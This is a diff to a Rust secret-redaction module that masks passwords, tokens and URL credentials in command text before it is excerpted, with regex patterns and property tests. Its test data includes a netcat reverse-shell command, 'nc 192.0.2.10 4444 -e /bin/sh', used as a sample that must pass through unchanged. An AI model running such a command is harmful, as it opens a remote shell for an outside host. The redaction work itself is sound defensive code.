@@ -20,7 +20,10 @@ pub struct SafeText(String);
 
 /// How much of a text is looked at for secrets before it is cut. Larger than any limit in use, so that a
 /// secret which begins inside the limit is recognised as a whole.
-const WINDOW: usize = 4096;
+pub(crate) const WINDOW: usize = 4096;
+
+/// Of this many bytes a secret is recognised without its end.
+const RECOGNISED: usize = 256;
 
 /// What stands in place of a secret.
 const MASK: &str = "***";
@@ -32,7 +35,7 @@ impl SafeText {
     /// Makes text safe: masks, escapes, and cuts to `limit` characters (the mark of the cut included).
     pub fn new(raw: &str, limit: usize) -> Self {
         let window = match raw.char_indices().nth(WINDOW) {
-            Some((end, _)) => raw.get(..end).unwrap_or_default(),
+            Some((end, _)) => without_part_of_a_word(raw.get(..end).unwrap_or_default()),
             None => raw,
         };
         let masked = mask_secrets(window);
@@ -85,6 +88,14 @@ pub fn escaped(raw: &str) -> Cow<'_, str> {
     Cow::Owned(safe)
 }
 
+/// The text without a last word that may be cut: a secret could not be recognised by half of it.
+fn without_part_of_a_word(text: &str) -> &str {
+    match text.rfind(char::is_whitespace) {
+        Some(end) if text.len() - end <= RECOGNISED => text.get(..end).unwrap_or_default(),
+        _ => text,
+    }
+}
+
 fn push_escaped(out: &mut String, character: char) {
     match character {
         '\n' => out.push_str("\\n"),
@@ -112,32 +123,51 @@ fn is_unsafe(character: char) -> bool {
         )
 }
 
-/// Patterns of secrets, each with what it cannot match without. The group `secret` is masked, or the whole match where
-/// there is no such group. They rather mask too much: what is lost is a detail of an excerpt.
+/// How the name of a secret ends, in an option, a variable or a field. Nothing here is case-sensitive.
+const NAME: &str = "passw(?:or)?d|passwd|passphrase|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key\
+                    |account[_-]?key|credential|client[_-]?secret|_pass|_key|pass";
+
+/// Patterns of secrets, each with what it cannot match without. The first group is masked, or the whole match where
+/// there is none; an empty group marks where a value begins that [`value_length`] measures. `{NAME}` stands for
+/// [`NAME`]. They rather mask too much: what is lost is a detail of an excerpt.
 ///
 /// The second column saves most texts most of the patterns. It holds literal text that every match has, without any
 /// `*`: so a mask that an earlier pattern put in cannot bring it about.
-const SECRETS: [(&str, &str); 12] = [
-    // user:password@ in a URL
-    (r"(?i)[a-z][a-z0-9+.-]*://(?P<secret>[^/\s@'\x22]+)@", "://"),
+const SECRETS: [(&str, &str); 14] = [
+    // user:password@ in a URL; what is too long for a host has one, even if it ends outside of the window
+    (r"(?i)[a-z][a-z0-9+.-]*://(?:(?P<secret>[^/\s@'\x22]+)@|(?P<long>[^/\s@'\x22]{254,}))", "://"),
     // Authorization headers and bearer tokens
     (
         r"(?i)\b(?:authorization|proxy-authorization|x-[a-z-]*(?:token|key|auth)[a-z-]*)\s*[:=]\s*(?P<secret>[^'\x22\r\n]+)",
         "(?i)authorization|x-",
     ),
     (r"(?i)\b(?:bearer|basic)\s+(?P<secret>[A-Za-z0-9._~+/=-]{6,})", "(?i)bearer|basic"),
-    // mysql -psecret, sshpass -p secret: before the names below, which would take `pass -p` for a pair
+    // Options of one letter that take a password, by tool: before the names below, which would take `pass -p` for a
+    // pair
     (r"\bmysql(?:dump|admin)?\b.*?\s-p(?P<secret>[^\s]+)", "mysql"),
-    (r"\bsshpass\s+-p\s*(?P<secret>[^\s]+)", "sshpass"),
+    (
+        r"\b(?:sshpass|docker\s+login|login|mongo[a-z]*|7z[a-z]*|unrar)\b.*?\s-p\s*(?P<secret>[^\s]+)",
+        "sshpass|login|mongo|7z|unrar",
+    ),
+    (
+        r"\b(?:redis-cli\b.*?\s-a|ldap[a-z]+\b.*?\s-w|(?:sqlcmd|bcp|zip|unzip)\b.*?\s-P|(?:plink|pscp|psftp)\b.*?\s-pw)\s*(?P<secret>[^\s]+)",
+        "redis-cli|ldap|sqlcmd|bcp|zip|plink|pscp|psftp",
+    ),
+    // openssl's pass:secret, Samba's -U user%secret, lftp's -u user,secret
+    (
+        r"\bpass:(?P<secret>[^\s]+)|\s-U\s*[^\s%]+%(?P<samba>[^\s]+)|\blftp\b.*?\s-u\s*[^\s,]+,(?P<lftp>[^\s]+)",
+        "pass:|%|lftp",
+    ),
     // NAME=value, "name": "value", --name value, where the name speaks of a secret
     (
-        r#"(?ix)[a-z0-9_.-]*(?:passw(?:or)?d|passwd|passphrase|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key
-            |account[_-]?key|credential|client[_-]?secret|_pass|_key|pass)["']?
-            (?:\s*[=:]\s*|\s+)(?P<secret>"[^"]*"?|'[^']*'?|[^\s&;|"']+)"#,
+        r#"(?i)[a-z0-9_.-]*(?:{NAME})["']?(?:\s*[=:]\s*|\s+)(?P<secret>)"#,
         "(?i)pass|pwd|secret|token|key|credential",
     ),
     // curl -u user:password
-    (r#"(?:^|\s)(?:-u|--user)[\s=]*(?P<secret>["']?[^\s:"']+:[^\s"']+)"#, "-u"),
+    (
+        r#"(?:^|\s)(?:-u|--user)[\s=]*(?P<secret>"[^":]*:[^"]*"?|'[^':]*:[^']*'?|[^\s:"']+:(?:"[^"]*"?|'[^']*'?|[^\s"'])+)"#,
+        "-u",
+    ),
     // well-known shapes
     (r"\b(?:AKIA|ASIA)[A-Z0-9]{12,}", "AKIA|ASIA"),
     (
@@ -153,14 +183,66 @@ const SECRETS: [(&str, &str); 12] = [
 ];
 
 /// The patterns, compiled.
-static PATTERNS: LazyLock<Vec<Regex>> =
-    LazyLock::new(|| SECRETS.iter().filter_map(|(pattern, _)| Regex::new(pattern).ok()).collect());
+static PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
+    SECRETS.iter().filter_map(|(pattern, _)| Regex::new(&pattern.replace("{NAME}", NAME)).ok()).collect()
+});
 
 /// What each of them cannot match without. Matches all where it cannot be built, so that nothing is left out.
 static NEEDED: LazyLock<RegexSet> = LazyLock::new(|| {
     let needed = RegexSet::new(SECRETS.iter().map(|(_, needed)| needed));
     needed.or_else(|_| RegexSet::new([""; SECRETS.len()])).unwrap_or_default()
 });
+
+/// A text that is nothing but the name of a secret, as an option or not.
+static SECRET_NAME: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(&format!("(?i)^[a-z0-9_.-]*(?:{NAME}|authorization)$")).ok());
+
+fn names_a_secret(text: &str) -> bool {
+    SECRET_NAME.as_ref().is_some_and(|name| name.is_match(text))
+}
+
+/// A word of a command without the secret in it, as far as it takes the borders of words to see where it ends: a
+/// password may have blanks, quotes and semicolons in it, and an excerpt shows words with a blank between them.
+pub(crate) fn mask_word<'a>(before: Option<&str>, word: &'a str) -> Cow<'a, str> {
+    let ends_early = |character: char| character.is_whitespace() || "\"'&;|".contains(character);
+    if !word.contains(ends_early) {
+        return Cow::Borrowed(word);
+    }
+    let is_user = before.is_some_and(|option| matches!(option, "-u" | "-U" | "--user"));
+    if before.is_some_and(|option| option.starts_with('-') && names_a_secret(option)) || is_user {
+        return Cow::Borrowed(MASK);
+    }
+    match word.split_once(['=', ':']) {
+        Some((name, value)) if names_a_secret(name) && !value.is_empty() => {
+            Cow::Owned(format!("{name}{}{MASK}", word.get(name.len()..=name.len()).unwrap_or_default()))
+        }
+        _ => Cow::Borrowed(word),
+    }
+}
+
+/// The length of a value as a shell or JSON writes it: quoted, escaped, or in pieces (`a'b c'"d"`). Behind a closing
+/// quote it ends where a list or an object of JSON goes on.
+fn value_length(text: &str) -> usize {
+    let mut quote = None;
+    let mut was_quoted = false;
+    let mut characters = text.char_indices();
+    while let Some((at, character)) = characters.next() {
+        match (quote, character) {
+            (Some(open), _) if open == character => quote = None,
+            // Whatever comes next, it is taken for the character.
+            (None | Some('"'), '\\') => _ = characters.next(),
+            (None, '"' | '\'') => {
+                quote = Some(character);
+                was_quoted = true;
+            }
+            (None, '&' | ';' | '|') => return at,
+            (None, ',' | '}' | ']') if was_quoted => return at,
+            (None, _) if character.is_whitespace() => return at,
+            _ => {}
+        }
+    }
+    text.len()
+}
 
 fn mask_secrets(text: &str) -> Cow<'_, str> {
     let needed = NEEDED.matches(text);
@@ -172,12 +254,30 @@ fn mask_by(patterns: impl Iterator<Item = &'static Regex>, text: &str) -> Cow<'_
     let mut masked = Cow::Borrowed(text);
     for pattern in patterns {
         let mut hidden = String::new();
-        let mut last = 0;
-        for captures in pattern.captures_iter(&masked) {
-            let Some(secret) = captures.name("secret").or_else(|| captures.get(0)) else { continue };
-            hidden.push_str(masked.get(last..secret.start()).unwrap_or_default());
+        let (mut last, mut from) = (0, 0);
+        while let Some(captures) = pattern.captures_at(&masked, from) {
+            let Some(group) = captures.iter().skip(1).flatten().next().or_else(|| captures.get(0)) else {
+                break;
+            };
+            let (start, mut end) = (group.start(), group.end());
+            if group.is_empty() {
+                end += value_length(masked.get(start..).unwrap_or_default());
+            }
+            let secret = masked.get(start..end).unwrap_or_default();
+            // No value; or, as in `--no-password --token x`, the name of the next secret.
+            if secret.is_empty() || (names_a_secret(secret) && start > from) {
+                from = captures
+                    .get(0)
+                    .map_or(masked.len(), |all| if group.is_empty() { all.end() } else { start });
+                if from >= masked.len() {
+                    break;
+                }
+                continue;
+            }
+            hidden.push_str(masked.get(last..start).unwrap_or_default());
             hidden.push_str(MASK);
-            last = secret.end();
+            last = end;
+            from = end;
         }
         if last > 0 {
             hidden.push_str(masked.get(last..).unwrap_or_default());
@@ -230,6 +330,7 @@ mod tests {
     #[test]
     fn all_patterns_compile() {
         assert_eq!(PATTERNS.len(), SECRETS.len());
+        assert!(SECRET_NAME.is_some());
         assert_eq!(NEEDED.len(), SECRETS.len());
     }
 
@@ -246,7 +347,7 @@ mod tests {
 
     /// What texts with secrets are made of, among any other text.
     fn piece() -> impl proptest::strategy::Strategy<Value = String> {
-        const PIECES: [&str; 45] = [
+        const PIECES: [&str; 66] = [
             "a",
             "://",
             "@",
@@ -278,6 +379,27 @@ mod tests {
             "dump",
             "sshpass",
             "-p",
+            "docker login",
+            "mongo",
+            "7z",
+            "unrar",
+            "redis-cli",
+            "-a",
+            "ldapsearch",
+            "-w",
+            "sqlcmd",
+            "zip",
+            "-P",
+            "plink",
+            "-pw",
+            "pass:",
+            "-U",
+            "%",
+            "lftp",
+            ",",
+            "\\",
+            ";",
+            "user",
             "-u",
             "--user",
             "AKIA",
@@ -318,6 +440,18 @@ mod tests {
             ("echo '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----'", "MIIE"),
             (r#"{"api_key": "k-123456"}"#, "k-123456"),
             ("sshpass -p hunter2 ssh x", "hunter2"),
+            ("psql --no-password --token hunter2", "hunter2"),
+            ("PASSWORD= --token hunter2", "hunter2"),
+            ("x --token 'a b'hunter2", "hunter2"),
+            (r"x --token a\ hunter2", "hunter2"),
+            (r#"x --token "a\"hunter2""#, "hunter2"),
+            ("curl -u 'a b:c hunter2' http://x", "hunter2"),
+            ("curl -u a:'c hunter2' http://x", "hunter2"),
+            ("redis-cli -h x -a hunter2 ping", "hunter2"),
+            ("docker login -u me -p hunter2 registry.test", "hunter2"),
+            ("ldapsearch -D cn=x -w hunter2", "hunter2"),
+            ("openssl enc -d -pass pass:hunter2", "hunter2"),
+            ("smbclient -U admin%hunter2 //x/y", "hunter2"),
             ("x 9fK3jd82LsQp04ZmXvB7tYhW1nRcEu65", "9fK3jd82LsQp04ZmXvB7tYhW1nRcEu65"),
         ] {
             assert!(!safe(raw).contains(secret), "{raw} -> {}", safe(raw));
@@ -331,6 +465,7 @@ mod tests {
             "nc 192.0.2.10 4444 -e /bin/sh",
             "curl -sf http://health.example.test/ready",
             "registry.example.test/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+            "docker login --username me registry.example.test",
             "tar czf /backup/etcd-2024.tgz /var/lib/etcd",
         ] {
             assert_eq!(safe(raw), raw);
@@ -352,6 +487,33 @@ mod tests {
         assert_eq!(SafeText::new("ab\u{1b}cd", 6).as_str(), "ab…");
         assert_eq!(SafeText::new(&"x".repeat(1_000_000), 120).as_str().chars().count(), 120);
         assert_eq!(SafeText::new("abc", 0).as_str(), "");
+    }
+
+    #[test]
+    fn json_goes_on_behind_a_secret() {
+        assert_eq!(safe(r#"{"token": "a b", "cmd": "nc"}"#), r#"{"token": ***, "cmd": "nc"}"#);
+    }
+
+    #[test]
+    fn words_with_blanks_and_quotes_are_masked_as_a_whole() {
+        for (before, word, expected) in [
+            (Some("--password"), "a; hunter2", "***"),
+            (Some("-u"), "me:a 'hunter2", "***"),
+            (None, "--token=a 'hunter2", "--token=***"),
+            (None, "X-Auth-Token: a\" hunter2", "X-Auth-Token:***"),
+            (None, "nc -e sh; echo 'a'", "nc -e sh; echo 'a'"),
+            (Some("--password"), "plain", "plain"),
+        ] {
+            assert_eq!(mask_word(before, word), expected);
+        }
+    }
+
+    #[test]
+    fn a_secret_that_ends_outside_of_the_window_is_masked() {
+        let long = "abc".repeat(2_000);
+        assert!(!safe(&format!("curl https://me:{long}@x.test")).contains("abc"));
+        let window = "x".repeat(WINDOW - 60);
+        assert!(!safe(&format!("TOKEN={window} curl https://me:hunter2{long}@x.test")).contains("hunter2"));
     }
 
     #[test]
